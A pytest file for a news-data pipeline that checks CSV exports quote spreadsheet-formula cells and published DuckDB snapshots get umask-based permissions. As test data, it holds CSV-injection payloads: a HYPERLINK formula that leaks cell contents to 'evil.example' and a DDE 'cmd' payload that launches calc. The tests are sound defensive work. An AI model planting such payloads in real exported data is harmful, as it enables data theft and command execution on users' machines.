"""`make export` and the published copy, on a real DuckDB file holding the marts tables:
a text cell that a spreadsheet would run as a formula is quoted in the CSV only (Parquet keeps the value), and
the published copy is readable like any new file (its mode follows the umask, not mkstemp's 0600)."""
from __future__ import annotations

import csv
import io
import os
import stat

import duckdb
import pyarrow.parquet as pq
import pytest

from pipelines.export import BOM, MARTS, REPORTING, export_marts
from pipelines.publish import publish_snapshot, published_path

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "스마트시티 협약")',
    "+SUM(1+1) 시민 참여 확대",
    "-2 도시데이터 공개",
    "@SUM(A1) 업무협약",
    "\t=1+1 탭으로 시작하는 제목",
    "\r=1+1 줄바꿈으로 시작하는 제목",
]
PLAIN_TITLES = ["세종시, 도시데이터 플랫폼 구축", "a=b 는 수식이 아니다", "3D 지도 시범 서비스"]


def _marts_warehouse(path, titles):
    con = duckdb.connect(str(path))
    con.execute("create schema marts")
    con.execute("create table marts.dim_articles (article_id varchar, url varchar, title varchar, views integer)")
    con.executemany("insert into marts.dim_articles values (?, ?, ?, ?)",
                    [(f"a{i}", f"https://news.example.kr/{i}", t, -i) for i, t in enumerate(titles)])
    con.execute("create table marts.dim_organizations (org_id varchar, name varchar, aliases varchar[])")
    con.execute("insert into marts.dim_organizations values ('o1', '=cmd|'' /C calc''!A0', ['+alias', '전주'])")
    for table in MARTS:
        if table not in ("dim_articles", "dim_organizations"):
            con.execute(f"create table marts.{table} (id varchar, note varchar)")
            con.execute(f"insert into marts.{table} values ('x', '-1')")
    con.execute("create schema reporting")
    # the readable views: names where the marts hold ids (a view over the marts, as dbt builds them)
    con.execute("create view reporting.budgets as select a.title as article_title, o.name as recipient "
                "from marts.dim_articles a, marts.dim_organizations o")
    for view in REPORTING:
        if view != "budgets":
            con.execute(f"create view reporting.{view} as select note from marts.fct_events")
    con.close()


def _csv_rows(path):
    raw = path.read_bytes()
    assert raw.startswith(BOM)
    return list(csv.DictReader(io.StringIO(raw[len(BOM):].decode("utf-8"), newline="")))


def test_csv_cells_that_would_run_as_formulas_are_quoted_and_parquet_keeps_the_values(tmp_path):
    path = tmp_path / "news.duckdb"
    titles = HOSTILE_TITLES + PLAIN_TITLES
    _marts_warehouse(path, titles)
    export_marts(path, tmp_path / "out")

    rows = _csv_rows(tmp_path / "out" / "dim_articles.csv")
    got = {r["article_id"]: r for r in rows}
    for i, title in enumerate(titles):
        cell = got[f"a{i}"]["title"]
        if title in HOSTILE_TITLES:
            assert cell == "'" + title, cell  # shown as text by Excel / LibreOffice, nothing evaluated
        else:
            assert cell == title
        assert got[f"a{i}"]["views"] == str(-i)  # numbers are numbers, never quoted
    org = _csv_rows(tmp_path / "out" / "dim_organizations.csv")[0]
    assert org["name"].startswith("'=") and org["aliases"] == "'+alias; 전주"
    assert _csv_rows(tmp_path / "out" / "fct_budgets.csv")[0]["note"] == "'-1"
    # the readable views go through the same quoting
    readable = {r["article_title"]: r["recipient"] for r in _csv_rows(tmp_path / "out" / "budgets.csv")}
    assert readable[PLAIN_TITLES[0]] == "'=cmd|' /C calc'!A0" and readable["'" + HOSTILE_TITLES[1]]

    parquet = pq.read_table(tmp_path / "out" / "dim_articles.parquet").to_pydict()
    assert parquet["title"] == titles  # the real values, unquoted
    assert pq.read_table(tmp_path / "out" / "dim_organizations.parquet").to_pydict()["aliases"] == [["+alias", "전주"]]


def test_export_refuses_a_warehouse_without_the_reporting_views(tmp_path):
    path = tmp_path / "news.duckdb"
    _marts_warehouse(path, PLAIN_TITLES)
    con = duckdb.connect(str(path))
    con.execute("drop view reporting.events")
    con.close()
    with pytest.raises(FileNotFoundError, match=r"reporting\.events.*make run"):
        export_marts(path, tmp_path / "out")


@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o027, 0o640), (0o077, 0o600)])
def test_the_published_copy_is_created_with_the_umask_like_any_file(tmp_path, umask, mode):
    path = tmp_path / "news.duckdb"
    _marts_warehouse(path, PLAIN_TITLES)
    old = os.umask(umask)
    try:
        target = publish_snapshot(path)
        publish_snapshot(path)  # replacing an existing copy gives the same mode
    finally:
        os.umask(old)
    assert target == published_path(path)
    assert stat.S_IMODE(target.stat().st_mode) == mode
    assert [p.name for p in target.parent.iterdir()] == ["news.duckdb"]  # no temporary file left behind
    con = duckdb.connect(str(target), read_only=True)
    assert con.execute("select count(*) from marts.dim_articles").fetchone()[0] == len(PLAIN_TITLES)
    con.close()
